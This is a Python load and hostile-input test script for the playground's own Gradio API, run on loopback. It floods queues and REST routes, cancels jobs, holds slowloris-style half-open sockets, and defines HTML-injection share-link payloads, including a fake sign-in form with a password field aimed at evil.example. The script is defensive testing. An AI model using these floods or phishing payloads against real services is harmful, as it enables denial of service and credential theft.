"""Load test of the playground's API on loopback (bounded in clients and time).

Starts `python app.py` on a free 127.0.0.1 port (unless --url is given), then runs N concurrent
gradio_client sessions for a fixed time, each one visitor with its own address (sent as
X-Forwarded-For to a server started to trust it, as behind a Space's proxy: the fair queue limits
each address). Each session loops over a mix of requests:
  normal     a short greedy generation: must finish, answer ITS prompt, and give the same text as
             every other session that asked the same prompt (greedy + same settings = same output;
             any difference would mean outputs crossed sessions)
  cancelled  submitted and cancelled after a random short delay
  bad        an empty prompt or an impossible speedup: must be refused with a message
Reports completed requests by kind, errors by type, latency percentiles, and the server's
resident memory before and after (after the run and a short idle).

    python scripts/load_test.py --clients 20 --duration 120

--hostile runs a bounded hostile mix instead (under 3 minutes with the defaults), then reports:
  cancel storm     5 `/generate` jobs with ~1500-token prompts, each cancelled as soon as it is
                   processing (or after 1 s); the server's CPU seconds (its children included) in
                   the 5 s window that starts 2 s after the last cancel (target < 0.5 CPU-s)
  long sessions    3 concurrent `/generate` sessions with ~1500-token prompts, finished normally
                   (the step handler is private: the API cannot reach it)
  REST refusals    POST /gradio_api/run/generate and /gradio_api/call/generate (api_open=False
                   should refuse them) and /gradio_api/queue/join with an unknown fn_index: status
                   codes and whether the body carries a message
  queue flood      one client submits 20 jobs at once while another job runs: accepted and refused
                   ("Queue is full"), its share of the queue (accepted waiting / queue size), then a
                   second client must still get a normal answer; the same flood through REST
                   /call/generate (no session) is measured too, and its accepted jobs cancelled
  REST flood       one script floods /generate by /call/, /call/v2/ and queue/join with made-up
                   session ids (reading every stream) while a page-like visitor submits one job:
                   the visitor's first message against the job run alone (target: within the running
                   job plus one per other client: 2 x the job + its first message)
  preview storm    4 loops on the page's schedule preview (outside the queue), new settings each
                   call, during one generation: its first message against alone
  messages         every answer and exception whose text is empty, "None", "Internal Server
                   Error" or a bare traceback counts as an error without a message (target 0)
Also the server's RSS before (after a warm-up request), after the mix and after 10 s idle (target:
within 5% of the baseline), and the hardware. Printed as JSON and written to --json (default
assets/load/hostile.json).

    OMP_NUM_THREADS=1 HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile

Then the attacks through the page's own ways in (issue 37; under "page_attacks"; `--hostile --page-attacks`
runs only these and keeps the file's other keys; `--tiny` is a dry run with tiny counts). Loopback
addresses only: the script is 127.0.0.1, a visitor 127.0.0.2 (the server reads real peer addresses here):
  share links      four hostile links (a parameter name that is a <form> with a password input, a
                   position:fixed anchor, `[text](url)`, HTML in a value) through the page's own load
                   event: '<form', '<input', 'href=' in the status line it returns, the elements a
                   CommonMark renderer with HTML on builds from it (target 0), and the page's CSP,
                   nosniff and Referrer-Policy headers
  invented sessions  16 made-up session ids with their heartbeats open (no page token) push jobs (16 x
                   20 at most) while a visitor who loaded the page pushes one: its first message
                   against alone (target: within the running job plus one, 2 x the job + its first
                   message), the script's jobs admitted and refused
  job cost         the issue's batch 8 x (768 + 256) lens job: refused, how fast, its message; then the
                   costliest admitted job of three kinds (256 tokens; batch 8; the lens), timed
  step mode        a visitor's step session, 6 step sessions of one script (500-word prompts, the
                   lens), the visitor's next step: "step", not a restarted "prefill"; the server's RSS
                   before, at peak and 10 s after
  bad numbers      a NaN seed on the page's generate event, order="random" on the API: status and the
                   parameter named
  half-sent requests  200 sockets that send a request line and one header line a second, never ending
                   their headers (slowloris), and a visitor loading the page meanwhile: when the server
                   closed each (target: all, within its 30 s read deadline + 5 s) and the visitor's page
  memory           the server's RSS when the attacks start and 10 s after they end

    OMP_NUM_THREADS=1 HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile --page-attacks

Then the hostile page events of issue 54 (under "event_fuzz"; `--hostile --event-fuzz` runs only them and
keeps the file's other keys): a line of 100,000 spaces at the MR-feedback and task-switch events while
another client loads /config, the over-cost E2E job at 3x/4x/3x/4x, an unknown task on the hidden events, and
a seeded fuzz of every page event and the API for --fuzz-seconds (default 60; 600 for the issue's ten
minutes), with the server's tracebacks: scripts/hostile_events.py says what each measures.

    HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile --event-fuzz --fuzz-seconds 600

--stream-overhead times the 256-token job (the costliest the cap admits: its prompt sized to the cap,
run to its full length) through the launched server (gradio_client, submit to the last message)
against the same job in this process (``Playground.api_stream``: the check, the race and every
message, no server), alternately, --repeats times each (issue #51: target, the server within 1.15x);
--compare-url times a second running server in the same rounds (a checkout from before a change;
--compare-pid: its process). Prints the times, the ratios and their median, the CPU seconds of each
server (of this process in-process) and their ratios (CPU time is far less moved than wall time by
other work on a shared machine), the messages each way and the hardware with its CPU flags;
written to --json (default assets/load/stream_overhead.json).

    HF_HUB_OFFLINE=1 python scripts/load_test.py --stream-overhead --repeats 5
"""

from __future__ import annotations

import argparse
import collections
import concurrent.futures
import json
import os
import random
import re
import socket
import statistics
import subprocess
import sys
import threading
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import IO

import httpx
import psutil
from gradio_client import Client
from gradio_client.client import Job
from gradio_client.utils import QueueError, Status

ROOT = Path(__file__).resolve().parents[1]
PROMPTS = ["Name three colours.", "What is the capital of France?", "Write a haiku about rain.",
           "Give one tip for sleeping well.", "Say hello in French."]
BAD_REQUESTS = [dict(prompt="   "), dict(prompt="hi", target_speedup=99.0), dict(prompt="hi", decay="zigzag")]


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def start_server(port: int, distinct_visitors: bool = False) -> subprocess.Popen:
    """The app on loopback. ``distinct_visitors``: it reads each client's address from
    X-Forwarded-For (as behind a Space's proxy), so sessions that send their own address count as
    different visitors for the fair queue's per-address limits."""
    env = dict(os.environ, GRADIO_SERVER_NAME="127.0.0.1", GRADIO_SERVER_PORT=str(port), HF_HUB_OFFLINE="1")
    if distinct_visitors:
        env["SKIPDECODE_TRUST_FORWARDED_FOR"] = "1"
    env.setdefault("MALLOC_ARENA_MAX", "2")  # as scripts/start.sh runs the app
    process = subprocess.Popen([sys.executable, "app.py"], cwd=ROOT, env=env, stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 180
    while time.time() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1):
                return process
        except OSError:
            if process.poll() is not None:
                raise SystemExit(f"server exited: {process.stderr.read()[-2000:]}")
            time.sleep(1)
    process.kill()
    raise SystemExit("server did not start within 180 s")


class Tally:
    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.completed = collections.Counter()
        self.errors = collections.Counter()
        self.latency = collections.defaultdict(list)
        self.outputs: dict[str, set[str]] = collections.defaultdict(set)
        self.mixups = 0
        self.batch_requests = collections.Counter()  # jobs that shared each answered job's batch

    def add(self, kind: str, seconds: float) -> None:
        with self.lock:
            self.completed[kind] += 1
            self.latency[kind].append(seconds)

    def error(self, kind: str) -> None:
        with self.lock:
            self.errors[kind] += 1


SHARED_SETTINGS = {"target_speedup": 2.0, "decay": "linear"}  # every mix job's schedule: they may share a batch


def session(url: str, stop_at: float, tally: Tally, seed: int, max_new_tokens: int) -> None:
    rng = random.Random(seed)
    # One visitor per session: its own address (the fair queue limits each address; all sessions
    # of this test come from loopback, so without it they would share one visitor's share).
    client = Client(url, verbose=False, headers={"X-Forwarded-For": f"10.0.{seed // 250}.{seed % 250 + 1}"})
    while time.time() < stop_at:
        kind = rng.choices(["normal", "cancelled", "bad"], weights=[70, 15, 15])[0]
        start = time.time()
        try:
            if kind == "normal":
                prompt = rng.choice(PROMPTS)
                final = client.predict(prompt=prompt, **SHARED_SETTINGS, max_new_tokens=max_new_tokens,
                                       api_name="/generate")
                if final["prompts"][0] != prompt:
                    with tally.lock:
                        tally.mixups += 1
                with tally.lock:
                    tally.outputs[prompt].add(final["skipdecode"][0] + "\x00" + final["full"][0])
                    tally.batch_requests[final.get("batch_requests", 1)] += 1
            elif kind == "cancelled":
                # the same settings as the answered jobs, so a leaver joins their batch and leaves it mid-run
                job = client.submit(prompt=rng.choice(PROMPTS), **SHARED_SETTINGS, max_new_tokens=max_new_tokens,
                                    api_name="/generate")
                time.sleep(rng.uniform(0.1, 1.5))
                job.cancel()
            else:
                try:
                    client.predict(api_name="/generate", **rng.choice(BAD_REQUESTS))
                    tally.error("bad request accepted")
                    continue
                except Exception as error:  # noqa: BLE001 (any refusal is expected; its message is checked)
                    if "must" not in str(error) and "empty" not in str(error) and "unreachable" not in str(error):
                        tally.error(f"bad request: unclear message {str(error)[:60]!r}")
                        continue
            tally.add(kind, time.time() - start)
        except Exception as error:  # noqa: BLE001 (counted and reported by type)
            tally.error(f"{kind}: {type(error).__name__}: {str(error)[:80]}")


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else float("nan")


def run_normal(url: str, process: psutil.Process | None, args: argparse.Namespace) -> int:
    """The normal mix: N sessions for --duration seconds; exit status 1 on server errors or mix-ups."""
    warm = Client(url, verbose=False)
    warm.predict(prompt=PROMPTS[0], max_new_tokens=args.max_new_tokens, api_name="/generate")  # warm-up
    time.sleep(2)
    memory_before = process.memory_info().rss / 2**20 if process else None
    tally = Tally()
    stop_at = time.time() + args.duration
    threads = [threading.Thread(target=session, args=(url, stop_at, tally, seed, args.max_new_tokens), daemon=True)
               for seed in range(args.clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(args.duration + 300)
    time.sleep(5)
    memory_after = process.memory_info().rss / 2**20 if process else None
    inconsistent = {p: len(v) for p, v in tally.outputs.items() if len(v) > 1}
    all_latency = [s for values in tally.latency.values() for s in values]
    report = {
        "command": "python scripts/load_test.py " + " ".join(sys.argv[1:]),
        "date": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
        "hardware": hardware(), "cpu_flags": cpu_flags(),
        # the machine's 1-minute load average at the end (2 = both cores busy with the server alone)
        "load_average_at_end": round(os.getloadavg()[0], 2),
        "clients": args.clients, "duration_s": args.duration, "max_new_tokens": args.max_new_tokens,
        "completed": dict(tally.completed), "errors": dict(tally.errors),
        "server_errors": sum(n for k, n in tally.errors.items() if not k.startswith("bad request")),
        "cross_session_mixups": tally.mixups + len(inconsistent), "inconsistent_prompts": inconsistent,
        "answered_by_batch_size": dict(sorted(tally.batch_requests.items())),
        "latency_s": {kind: {"p50": round(percentile(v, 0.5), 2), "p90": round(percentile(v, 0.9), 2),
                             "p99": round(percentile(v, 0.99), 2), "mean": round(statistics.mean(v), 2)}
                      for kind, v in tally.latency.items() if v},
        "latency_all_p50_s": round(percentile(all_latency, 0.5), 2),
        "server_rss_mb_before": round(memory_before, 1) if memory_before else None,
        "server_rss_mb_after": round(memory_after, 1) if memory_after else None,
    }
    print(json.dumps(report, indent=2))
    if args.json:
        Path(args.json).write_text(json.dumps(report, indent=2))
    return 0 if report["server_errors"] == 0 and report["cross_session_mixups"] == 0 else 1


# --- the hostile mix ---------------------------------------------------------------------------
HOSTILE_JSON = ROOT / "assets" / "load" / "hostile.json"
RUNNING = (Status.PROCESSING, Status.ITERATING, Status.PROGRESS)
WAITING = (Status.JOINING_QUEUE, Status.IN_QUEUE, Status.SENDING_DATA)
NO_MESSAGE_TEXTS = {"", "none", "null", "{}", "internal server error"}
# Three-letter words are one token each ("sea " x 1500 = 6000 characters, 1531 tokens with the chat
# template), so every long prompt stays under the app's 8000-character and 2048-token limits.
LONG_WORDS = ["sea", "sky", "sun", "red", "cat", "dog", "owl", "fox", "bee", "ice", "map"]


def long_prompt(word: str, repeats: int) -> str:
    """About ``repeats`` tokens (one per short word), under the app's 8000-character limit."""
    return " ".join([word] * repeats)


def lacks_message(text: str) -> bool:
    """Empty, "None", "Internal Server Error" or a bare traceback: nothing a visitor can act on."""
    stripped = text.strip()
    return stripped.lower() in NO_MESSAGE_TEXTS or stripped.startswith("Traceback (most recent call last)")


class Observations:
    """Every answer and exception text of the hostile run, so those without a message can be counted.
    A CancelledError is gradio_client's own (a job cancelled on this side before the server answered):
    it is kept apart, as it is no answer of the server."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.items: list[dict] = []
        self.local_cancellations = 0

    def answer(self, step: str, text: str) -> None:
        with self.lock:
            self.items.append({"step": step, "text": text})

    def exception(self, step: str, error: BaseException) -> str:
        """Records the exception's message (its type is not a message); returns "Type: message"."""
        if isinstance(error, concurrent.futures.CancelledError):
            with self.lock:
                self.local_cancellations += 1
            return "CancelledError (gradio_client, local)"
        self.answer(step, str(error))
        return f"{type(error).__name__}: {str(error)[:200]}"

    def without_message(self) -> list[dict]:
        with self.lock:
            return [item for item in self.items if lacks_message(item["text"])]


class ServerLog:
    """Drains the server's stderr (a full pipe would block the server) and counts its tracebacks."""

    def __init__(self, server: subprocess.Popen | None) -> None:
        self.tracebacks = 0
        self.tail: collections.deque[str] = collections.deque(maxlen=40)
        if server is not None and server.stderr is not None:
            threading.Thread(target=self._read, args=(server.stderr,), daemon=True).start()

    def _read(self, stream: IO[str]) -> None:
        for line in stream:
            self.tracebacks += line.startswith("Traceback (most recent call last)")
            self.tail.append(line.rstrip()[:300])

    def report(self) -> dict:
        return {"tracebacks": self.tracebacks, "tail": list(self.tail)[-12:]}


def cpu_seconds(process: psutil.Process) -> float:
    """User + system CPU time of the process and its (waited-for) children."""
    times = process.cpu_times()
    return times.user + times.system + times.children_user + times.children_system


def rss_mb(process: psutil.Process | None) -> float | None:
    return round(process.memory_info().rss / 2**20, 1) if process else None


def hardware() -> dict:
    model = next((line.split(":", 1)[1].strip() for line in Path("/proc/cpuinfo").read_text().splitlines()
                  if line.startswith("model name")), "unknown")
    return {"cpu_model": model, "logical_cores": os.cpu_count(), "physical_cores": psutil.cpu_count(logical=False),
            "memory_gb": round(psutil.virtual_memory().total / 2**30, 1)}


def wait_for_status(job: Job, codes: tuple[Status, ...], timeout: float) -> bool:
    """True once the job reports one of ``codes``; False when it ends or ``timeout`` passes first."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        if job.status().code in codes:
            return True
        if job.done():
            return False
        time.sleep(0.05)
    return False


def job_outcome(job: Job, step: str, observations: Observations, timeout: float) -> str:
    """The job's end, recorded: "ok", "ok, cancelled message", or the exception as "Type: message"."""
    try:
        final = job.result(timeout=timeout)
    except BaseException as error:  # noqa: BLE001 (every outcome is recorded, its message checked)
        return observations.exception(step, error)
    observations.answer(step, json.dumps(final)[:2000])
    if isinstance(final, dict) and final.get("cancelled"):
        return f"cancelled message: {final.get('error')}"
    return "ok"


def cancel_one(url: str, prompt: str, max_new_tokens: int, processing_timeout: float) -> tuple[Job, bool]:
    """Submits one long-prompt job and cancels it as soon as it is processing (or after the timeout)."""
    job = Client(url, verbose=False).submit(prompt=prompt, max_new_tokens=max_new_tokens, api_name="/generate")
    processing = wait_for_status(job, RUNNING, processing_timeout)
    job.cancel()
    return job, processing


def cpu_per_second(process: psutil.Process | None, seconds: int) -> list[float] | None:
    """The server's CPU seconds in each of the next ``seconds`` one-second intervals."""
    if process is None:
        time.sleep(seconds)
        return None
    samples = [cpu_seconds(process)]
    for _ in range(seconds):
        time.sleep(1.0)
        samples.append(cpu_seconds(process))
    return [round(b - a, 2) for a, b in zip(samples, samples[1:])]


def cancel_storm(url: str, process: psutil.Process | None, observations: Observations, jobs: int, words: int,
                 max_new_tokens: int) -> dict:
    """Long-prompt jobs cancelled one after another; the server's CPU in the 5 s window that starts
    2 s after the last cancel (a cancelled run should stop computing), with an idle reference."""
    idle = cpu_per_second(process, 5)
    started = time.time()
    cancelled = [cancel_one(url, long_prompt(LONG_WORDS[i % len(LONG_WORDS)], words), max_new_tokens, 1.0)
                 for i in range(jobs)]
    last_cancel = time.time()
    after = cpu_per_second(process, 10)
    outcomes = collections.Counter(job_outcome(job, "cancel storm", observations, 30) for job, _ in cancelled)
    return {"jobs": jobs, "prompt_words": words, "prompt_chars": len(long_prompt(LONG_WORDS[0], words)),
            "max_new_tokens": max_new_tokens,
            "cancelled_while_processing": sum(processing for _, processing in cancelled),
            "storm_seconds": round(last_cancel - started, 1),
            "server_cpu_s_in_window_2_to_7_s_after_last_cancel": round(sum(after[2:7]), 2) if after else None,
            "target_cpu_s": 0.5, "server_cpu_s_per_second_after_last_cancel": after,
            "server_cpu_s_idle_5_s_before": round(sum(idle), 2) if idle else None, "outcomes": dict(outcomes)}


def long_session(url: str, prompt: str, max_new_tokens: int, observations: Observations) -> dict:
    """One session: a long-prompt generation finished normally, its own prompt answered. An empty
    text is noted, not failed: the model may end at once on a prompt of one repeated word."""
    start = time.time()
    try:
        final = Client(url, verbose=False).predict(prompt=prompt, max_new_tokens=max_new_tokens, api_name="/generate")
    except Exception as error:  # noqa: BLE001 (recorded and reported)
        return {"ok": False, "error": observations.exception("long sessions", error)}
    observations.answer("long sessions", json.dumps(final)[:2000])
    checks = {"done": bool(final.get("done")), "own_prompt": final["prompts"][0] == prompt}
    empty = [name for name in ("skipdecode", "full") if not final[name][0].strip()]
    return {"ok": all(checks.values()), **({} if all(checks.values()) else {"failed": checks}),
            "empty_texts": empty, "seconds": round(time.time() - start, 1)}


def long_sessions(url: str, observations: Observations, sessions: int, words: int, max_new_tokens: int) -> dict:
    """Several sessions at once, each with its own long prompt, all finished normally."""
    results: list[dict] = [{} for _ in range(sessions)]

    def run(index: int) -> None:
        word = LONG_WORDS[(5 + index) % len(LONG_WORDS)]
        results[index] = long_session(url, long_prompt(word, words), max_new_tokens, observations)

    threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(sessions)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(300)
    return {"sessions": sessions, "prompt_words": words, "max_new_tokens": max_new_tokens,
            "finished_ok": sum(bool(r.get("ok")) for r in results),
            "seconds": [r.get("seconds") for r in results], "errors": [r["error"] for r in results if "error" in r],
            "failed_checks": [r["failed"] for r in results if "failed" in r],
            "empty_texts": [r.get("empty_texts") for r in results]}


def message_of(text: str) -> str:
    """The message a body carries: "detail", "error" or "message" of a JSON object, else the text.
    A JSON null there reads "None" (no message)."""
    try:
        body = json.loads(text)
    except ValueError:
        return text
    if isinstance(body, dict):
        for key in ("detail", "error", "message"):
            if key in body:
                return str(body[key])
    return text


def rest_probe(url: str, path: str, payload: dict, observations: Observations) -> dict:
    """POSTs one request that should be refused (on a connection of its own): its status and whether
    its body says why."""
    try:
        with httpx.Client(base_url=url, timeout=30) as http:
            response = http.post(path, json=payload)
    except httpx.HTTPError as error:
        return {"status": None, "refused": True, "has_message": False, "body": observations.exception(path, error)}
    message = message_of(response.text)
    observations.answer(f"REST {path}", message)
    return {"status": response.status_code, "refused": response.status_code >= 400,
            "has_message": not lacks_message(message), "body": response.text[:200]}


def call_result(url: str, event_id: str, observations: Observations) -> dict:
    """Reads a /call/ event's stream to its end: its last event and what its data says."""
    with httpx.Client(base_url=url, timeout=120) as http:
        lines = http.get(f"gradio_api/call/generate/{event_id}").text.strip().splitlines()
    events = [line.removeprefix("event:").strip() for line in lines if line.startswith("event:")]
    data = [line.removeprefix("data:").strip() for line in lines if line.startswith("data:")]
    message = message_of(data[-1]) if data else ""
    observations.answer("REST /call/generate result", message)
    return {"event": events[-1] if events else None, "data": data[-1][:200] if data else None,
            "has_message": not lacks_message(message)}


def rest_refusals(url: str, observations: Observations) -> dict:
    """The REST routes that bypass the queue must be refused with a message; so must an unknown fn_index."""
    report = {
        "run_generate": rest_probe(url, "gradio_api/run/generate", {"data": ["hi"]}, observations),
        "call_generate": rest_probe(url, "gradio_api/call/generate", {"data": ["hi"]}, observations),
        "queue_join_unknown_fn_index": rest_probe(
            url, "gradio_api/queue/join", {"data": [], "fn_index": 99999, "session_hash": "hostile-probe"},
            observations),
    }
    call = report["call_generate"]
    if not call["refused"]:  # accepted into the queue: what does the REST client get back?
        call["result"] = call_result(url, json.loads(call["body"])["event_id"], observations)
    return report


def classify_submission(job: Job, deadline: float) -> str:
    """ "refused" (gradio_client's QueueError), "accepted" (queued or running) or "unknown" (neither
    by the deadline, a time.time())."""
    while time.time() < deadline:
        if job.done():
            return "refused" if isinstance(job.exception(), QueueError) else "accepted"
        if job.status().code in WAITING + RUNNING:
            return "accepted"
        time.sleep(0.05)
    return "unknown"


def generate_fn_index(http: httpx.Client) -> int:
    config = http.get("config").json()
    return next(d["id"] for d in config["dependencies"] if d.get("api_name") == "generate")


def rest_call_flood(url: str, submissions: int, observations: Observations) -> dict:
    """The same flood through REST /call/generate (no session hash: each call is its own session).
    Counts accepted vs refused, then cancels the accepted ones (removed from the queue)."""
    with httpx.Client(base_url=url, timeout=30) as http:
        responses = [http.post("gradio_api/call/generate", json={"data": ["hi"]}) for _ in range(submissions)]
        accepted = [r.json()["event_id"] for r in responses if r.status_code == 200]
        for response in responses:
            if response.status_code != 200:
                observations.answer("REST /call flood", message_of(response.text))
        fn_index = generate_fn_index(http)
        for event_id in accepted:  # a queued /call/ event's session hash is its own id
            http.post("gradio_api/cancel", json={"event_id": event_id, "session_hash": event_id, "fn_index": fn_index})
    return {"submitted": submissions, "accepted": len(accepted), "refused": submissions - len(accepted),
            "statuses": dict(collections.Counter(r.status_code for r in responses))}


def second_client(url: str) -> dict:
    """After the flood: a visitor from another address (127.0.0.2) who loaded the page runs one job to its
    end. (A gradio_client Client on the flooder's own address is the flooder's client: pooled with it.)"""
    with httpx.Client(base_url=url, timeout=30) as http:
        fn_index = generate_fn_index(http)
    visit = page_visitor_job(url, "127.0.0.2", "secondclient", api_values(url, prompt=PROMPTS[4], max_new_tokens=8),
                             fn_index, to_end=True)
    return {"ok": visit["joined"] == 200 and visit["job_s"] is not None, **visit}


def queue_flood(url: str, observations: Observations, submissions: int, queue_size: int, words: int) -> dict:
    """While one job runs, one client submits ``submissions`` jobs at once: how many the queue takes
    from it, and whether a second client still gets a normal answer afterwards."""
    runner = Client(url, verbose=False).submit(prompt=long_prompt(LONG_WORDS[-1], words), max_new_tokens=8,
                                               api_name="/generate")
    runner_running = wait_for_status(runner, RUNNING, 60)
    flooder = Client(url, verbose=False)
    jobs = [flooder.submit(prompt=PROMPTS[i % len(PROMPTS)], max_new_tokens=4, api_name="/generate")
            for i in range(submissions)]
    deadline = time.time() + 15
    verdicts = collections.Counter(classify_submission(job, deadline) for job in jobs)
    refusals = collections.Counter(job_outcome(job, "queue flood (refused)", observations, 1)
                                   for job in jobs if job.done() and isinstance(job.exception(), QueueError))
    rest = rest_call_flood(url, submissions, observations)
    start = time.time()
    second = second_client(url)
    outcomes = collections.Counter(job_outcome(job, "queue flood (accepted)", observations, 120)
                                   for job in jobs if not (job.done() and isinstance(job.exception(), QueueError)))
    return {"submitted": submissions, "while_another_job_runs": runner_running,
            "accepted": verdicts["accepted"], "refused": verdicts["refused"], "unclassified": verdicts["unknown"],
            "refusal_messages": dict(refusals), "queue_size": queue_size,
            "max_queue_share_of_one_client": round(verdicts["accepted"] / queue_size, 3),
            "accepted_outcomes": dict(outcomes),
            "runner_outcome": job_outcome(runner, "queue flood (runner)", observations, 120),
            "second_client": {**second, "seconds_including_wait": round(time.time() - start, 1)},
            "rest_call_flood_no_session": {**rest, "max_queue_share": round(rest["accepted"] / queue_size, 3)}}


VICTIM_JOB = dict(prompt=PROMPTS[0], target_speedup=2.0, max_new_tokens=32)


def api_values(url: str, **overrides) -> list:
    """/generate's values in the documented order: its defaults, with ``overrides``."""
    info = httpx.get(url.rstrip("/") + "/gradio_api/info", timeout=30).json()["named_endpoints"]["/generate"]
    values = {p["parameter_name"]: p["parameter_default"] if p["parameter_has_default"] else "Hi"
              for p in info["parameters"]}
    return list((values | overrides).values())


def first_message_seconds(job: Job, timeout: float = 300) -> float | None:
    """Seconds from now until the job's first message (its first token), None if it ended without one."""
    start = time.time()
    while time.time() - start < timeout:
        if job.outputs():
            return round(time.time() - start, 2)
        if job.done():
            return None
        time.sleep(0.01)
    return None


def timed_job(url: str, observations: Observations, step: str) -> dict:
    """One page-like session's job (gradio_client keeps the page's heartbeat open): seconds to its
    first message and to its end."""
    client = Client(url, verbose=False)
    time.sleep(1.0)  # its heartbeat is open, as a page's is before its first click
    start = time.time()
    job = client.submit(**VICTIM_JOB, api_name="/generate")
    first = first_message_seconds(job)
    outcome = job_outcome(job, step, observations, 300)
    return {"first_message_s": first, "total_s": round(time.time() - start, 1), "outcome": outcome}


class RestFlood:
    """One script flooding /generate by every route the server answers (REST /call/ and /call/v2/
    without a session, queue/join with a made-up session id each time), reading every accepted
    job's stream (the worst case: nothing is dropped as abandoned)."""

    def __init__(self, url: str, observations: Observations) -> None:
        self.base, self.observations = url.rstrip("/") + "/gradio_api", observations
        self.stop, self.tally, self.lock = threading.Event(), collections.Counter(), threading.Lock()
        self.values = api_values(url, **VICTIM_JOB)
        with httpx.Client(base_url=url, timeout=30) as http:
            self.fn_index = generate_fn_index(http)
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _read(self, path: str) -> None:
        try:
            with httpx.Client(timeout=300) as http, http.stream("GET", f"{self.base}/{path}") as response:
                for _ in response.iter_lines():
                    if self.stop.is_set():
                        return
        except httpx.HTTPError:
            pass

    def _run(self) -> None:
        with httpx.Client(base_url=self.base, timeout=30) as http:
            while not self.stop.is_set():
                session = os.urandom(6).hex()
                for route, body, stream in (
                        ("call/generate", {"data": self.values}, "call/generate/{id}"),
                        ("call/v2/generate", dict(VICTIM_JOB), "call/v2/generate/{id}"),
                        ("queue/join", {"data": self.values, "fn_index": self.fn_index, "session_hash": session},
                         f"queue/data?session_hash={session}")):
                    try:
                        response = http.post(route, json=body)
                    except httpx.HTTPError as error:
                        with self.lock:
                            self.tally[(route, type(error).__name__)] += 1
                        continue
                    with self.lock:
                        self.tally[(route, response.status_code)] += 1
                    if response.status_code == 200:
                        path = stream.format(id=response.json()["event_id"])
                        threading.Thread(target=self._read, args=(path,), daemon=True).start()
                    else:
                        self.observations.answer(f"REST flood {route}", message_of(response.text))
                time.sleep(0.05)

    def report(self) -> dict:
        with self.lock:
            tally = dict(self.tally)
        accepted = sum(n for (_, status), n in tally.items() if status == 200)
        return {"requests": sum(tally.values()), "accepted": accepted, "refused": sum(tally.values()) - accepted,
                "by_route_and_status": {f"{route} {status}": n for (route, status), n in sorted(tally.items(),
                                                                                              key=str)}}


def rest_flood_victim(url: str, observations: Observations) -> dict:
    """The issue's REST flood with a normal visitor beside it: the visitor's first message (its first
    token) against the bound "the jobs running plus one per other client" (here: one running, one
    of the flood's pooled client), measured in units of the same job run alone."""
    with httpx.Client(base_url=url, timeout=30) as http:
        fn_index = generate_fn_index(http)
    data = api_values(url, **VICTIM_JOB)
    # the visitor loads the page from its own address: a client of its own (the script's are pooled on 127.0.0.1)
    alone = page_visitor_job(url, "127.0.0.2", "victimalone", data, fn_index, to_end=True)
    flood = RestFlood(url, observations)
    flood.thread.start()
    try:
        time.sleep(max(5.0, 2 * alone["until_stream_read_s"]))  # the flood has the lane and its queue share
        victim = page_visitor_job(url, "127.0.0.2", "victimflood", data, fn_index)
    finally:
        flood.stop.set()
        flood.thread.join(60)
    job_s = alone["job_s"] or alone["until_stream_read_s"]
    bound = round(2 * job_s + (alone["first_message_s"] or 0), 1)  # one running + one flood job, then its prefill
    return {"job": VICTIM_JOB, "alone": alone, "under_flood": victim, "flood": flood.report(),
            "bound_s": bound, "victim_within_bound": victim["first_message_s"] is not None
            and victim["first_message_s"] <= bound}


def preview_storm(url: str, observations: Observations, loops: int = 4) -> dict:
    """Four loops on the page's schedule preview (it runs outside the queue) with a new target
    speedup each call, while one generation runs: that generation's first message against alone."""
    config = httpx.get(url.rstrip("/") + "/config", timeout=30).json()
    dependency = next(d for d in config["dependencies"] if d.get("api_name") == "ui_schedule")
    components = {c["id"]: c for c in config["components"]}
    names = [components[i].get("props", {}).get("elem_id") or "" for i in dependency["inputs"]]
    base = [components[i].get("props", {}).get("value") for i in dependency["inputs"]]
    speed = names.index("setting-target-speedup")
    stop, calls, slowest = threading.Event(), collections.Counter(), [0.0]

    def loop(seed: int) -> None:
        rng = random.Random(seed)
        with httpx.Client(base_url=url, timeout=60) as http:
            while not stop.is_set():
                data = list(base)
                data[speed] = round(rng.uniform(1.0, 3.0), 3)
                started = time.time()
                response = http.post("gradio_api/run/ui_schedule", json={"data": data, "session_hash": f"p{seed}"})
                slowest[0] = max(slowest[0], time.time() - started)
                calls[response.status_code] += 1

    alone = timed_job(url, observations, "preview storm (alone)")
    threads = [threading.Thread(target=loop, args=(i,), daemon=True) for i in range(loops)]
    for thread in threads:
        thread.start()
    try:
        time.sleep(1.0)
        during = timed_job(url, observations, "preview storm (during)")
    finally:
        stop.set()
        for thread in threads:
            thread.join(30)
    return {"loops": loops, "calls_by_status": dict(calls), "slowest_call_s": round(slowest[0], 2),
            "first_message_s_alone": alone["first_message_s"], "first_message_s_during": during["first_message_s"]}


# --- the page attacks (issue 37): share links, invented sessions, job cost, step mode, NaN -------
HOSTILE_LINKS = {  # the issue's share links, each an unknown parameter NAME or a bad VALUE
    "form_as_name": {'<form action="http://evil.example/s"><p>Your session expired. Sign in</p>'
                     '<input type="password" name="pw"><button>Sign in</button></form>': "1"},
    "fixed_anchor_as_name": {'<a href="http://evil.example" style="position:fixed;inset:0;background:red">'
                             'continue</a>': "1"},
    "markdown_link_as_name": {"[Sign in again](http://evil.example/login)": "1"},
    "html_in_a_value": {"decay": '<b>x</b><a href="http://evil.example">here</a><input type="password">'},
}
MARKUP = ("<form", "<input", "href=")
SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy")
PAGE_COOKIE = "skipdecode_page"  # app/serving/page_tokens.py: the page token a page load sets
READ_DEADLINE_S = 30.0  # app/serving/slow_clients.py's default (the launched app is not told another)
PROMPT_TEMPLATE_TOKENS = 31  # the chat template around a prompt of one-token words (1500 words: 1531 tokens)
COUNTING = " Now count from 1 to 500, one number after another, separated by commas."
